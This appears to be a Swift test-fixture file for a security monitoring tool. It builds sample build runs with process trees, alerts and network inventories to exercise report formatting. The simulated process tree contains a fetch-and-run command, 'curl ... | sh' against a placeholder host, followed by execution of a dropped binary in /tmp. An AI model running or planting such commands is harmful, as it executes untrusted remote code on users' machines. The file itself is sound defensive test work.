import Events
import Reports

/// A whole run as a report is handed it.
struct SampleRun {
  var start: RunStart
  var alerts: [Alert]
  var totals: [AlertTotal]
  var summary: Summary

  /// The run in a format.
  func written(_ format: ReportFormat) -> [UInt8] {
    var report = format.makeReport(style: TextStyle())
    var output: [UInt8] = []
    report.begin(start, into: &output)
    for alert in alerts { report.alert(alert, into: &output) }
    report.end(totals, summary, into: &output)
    return output
  }
}

extension SampleRun {
  private static let began: Int64 = 1_795_428_000_000_000_000
  private static let millisecond: Int64 = 1_000_000

  /// A build with tests that downloads, writes and starts more than it should.
  static let build: SampleRun = {
    var summary = Samples.summary
    summary.command = ["make", "-j4", "test"]
    summary.outcome = .exited(0)
    summary.duration = 8_420 * millisecond
    summary.processes = 43
    summary.traceMode = "notify-synchronous"
    summary.alerts = [.p1: 2, .p2: 1, .p3: 7, .p4: 1]
    summary.failedBy = ["network-restricted-country", "process-dropped-executable"]
    summary.overflow = 0
    summary.processTree = tree
    var inventory = summary.inventory
    inventory.destinations = [
      .init(name: "175.45.176.1:443", country: "KP", count: 17),
      .init(
        name: "151.101.2.132:443", country: "US", hosts: ["mirror.example.org", "cdn.example.org"],
        count: 4),
      .init(name: "[2001:db8::53]:53", count: 12),
    ]
    inventory.listeners = [.init(name: "0.0.0.0:8080", count: 1)]
    inventory.programs = [
      .init(name: "/usr/bin/make", count: 1), .init(name: "/usr/bin/gcc", count: 36),
      .init(name: "/srv/shop/node_modules/.bin/esbuild", count: 2),
    ]
    summary.inventory = inventory
    var start = Samples.start(of: summary)
    start.alerts += more
    let alerts = Self.found
    let totals = alerts.enumerated().map { index, alert in
      AlertTotal(
        fingerprint: alert.fingerprint, id: alert.id, count: index % 3 == 0 ? index + 1 : 1)
    }
    return SampleRun(start: start, alerts: alerts, totals: totals, summary: summary)
  }()

  private static let tree: [RunProcess] = {
    var tree: [RunProcess] = []
    func add(_ parent: Int?, _ exe: String, _ argv: [String], _ from: Int64, _ to: Int64?) {
      var process = RunProcess(
        pid: 4200 + Int32(tree.count), parent: parent, exe: exe, argv: argv,
        start: began + from * millisecond)
      process.end = to.map { began + $0 * millisecond }
      process.outcome = to.map { _ in .exited(0) }
      tree.append(process)
    }
    add(nil, "/usr/bin/make", ["make", "-j4", "test"], 0, 8_400)
    add(0, "/usr/bin/dash", ["/bin/sh", "-c", "cc -O2 -c src/*.c"], 20, 4_100)
    for index in 0..<36 {
      let from = 60 + Int64(index) * 110
      add(1, "/usr/bin/gcc", ["cc", "-O2", "-c", "src/part\(index).c"], from, from + 240)
    }
    add(0, "/usr/bin/node", ["node", "scripts/fetch.js", "--mirror", "eu"], 900, 6_900)
    add(38, "/usr/bin/bash", ["bash", "-c", "curl -s 'https://x.example/i.sh' | sh"], 1_400, 3_000)
    add(39, "/usr/bin/curl", ["curl", "-s", "https://x.example/i.sh"], 1_420, 2_600)
    add(39, "/tmp/.cache/agent", ["agent", "--quiet"], 2_650, nil)
    add(0, "/usr/bin/python3.11", ["python3", "-m", "pytest", "-q"], 4_200, 8_390)
    tree[40].outcome = .exited(22)
    tree[42].outcome = .signaled(number: 11, name: "SIGSEGV")
    return tree
  }()

  private static func alert(
    _ id: String, _ priority: Priority, _ category: Category, _ title: String, _ message: String,
    process: Int, after milliseconds: Int64
  ) -> Alert {
    var alert = Samples.country
    (alert.id, alert.priority, alert.category) = (id, priority, category)
    (alert.title, alert.message) = (title, message)
    alert.time = began + milliseconds * millisecond
    alert.fingerprint = "\(id)-\(milliseconds)"
    let program = tree[process]
    alert.process.pid = program.pid
    alert.process.exe = program.exe
    alert.process.argv = program.argv
    alert.process.ancestors = [.init(pid: 4200, exe: "/usr/bin/make")]
    alert.exception = ExceptionFacts(
      alert: id, condition: "proc.program = \(program.argv[0]) and fd.name = '\(message)'",
      reason: "WHY", expires: "2027-11-25")
    return alert
  }

  private static let found: [Alert] = {
    var alerts = [Samples.country, Samples.key, Samples.suppressed, Samples.known]
    for index in alerts.indices { alerts[index].process.pid = 4240 }
    alerts[1].time = began + 1_700 * millisecond
    alerts.append(
      alert(
        "process-dropped-executable", .p1, .process, "Executable dropped and executed in this run",
        "curl wrote agent (/tmp/.cache/agent), which this run then executed",
        process: 41, after: 2_650))
    for index in 0..<6 {
      alerts.append(
        alert(
          "file-world-writable", .p3, .file, "A file was made writable by everybody",
          "python3 made /srv/shop/var/cache\(index).db writable by everybody", process: 42,
          after: 4_300 + Int64(index) * 600))
    }
    alerts.append(
      alert(
        "network-listens-everywhere", .p3, .network,
        "Server listens on all interfaces (wildcard address)",
        "node listens on all interfaces, port 8080", process: 38, after: 5_100))
    alerts.append(
      alert(
        "memory-written-then-executable", .p4, .memory, "Memory was written and made executable",
        "agent made 2 MB executable that it had written", process: 41, after: 2_700))
    return alerts
  }()

  /// Further alerts that were looked for.
  private static let more: [AlertText] = Category.allCases.flatMap { category in
    (1...3).map { number in
      AlertText(
        id: "\(category.rawValue)-sample-\(number)", priority: number == 1 ? .p2 : .p4,
        category: category, title: "Sample \(number) of what nobody did")
    }
  }

  /// As many alerts and processes as a run can have, with long texts.
  static let huge: SampleRun = {
    var run = build
    let long = String(repeating: "/deep & <long>", count: 60)
    run.summary.processTree = (0..<1_000).map { index in
      var process = RunProcess(
        pid: Int32(index), parent: index == 0 ? nil : index % 3 == 0 ? 0 : index - 1,
        exe: "/bin" + long, argv: [long], start: began + Int64(index) * millisecond)
      process.end = process.start + 40 * millisecond
      return process
    }
    run.summary.processes = 5_000
    run.alerts = (0..<10_000).map { index in
      var alert = alert(
        "huge-\(index % 90)", Priority.allCases[index % 4], .file, long, long + "\(index)",
        process: 0, after: Int64(index))
      alert.process.pid = Int32(index % 1_000)
      alert.process.argv = [long, long]
      alert.evidence = [.init("long", .text(long))]
      return alert
    }
    run.totals = run.alerts.map { .init(fingerprint: $0.fingerprint, id: $0.id, count: 2) }
    let items = (0..<2_000).map { InventoryItem(name: long + "\($0)", hosts: [long], count: $0) }
    run.summary.inventory.destinations = items
    run.summary.inventory.libraries = items
    return run
  }()
}
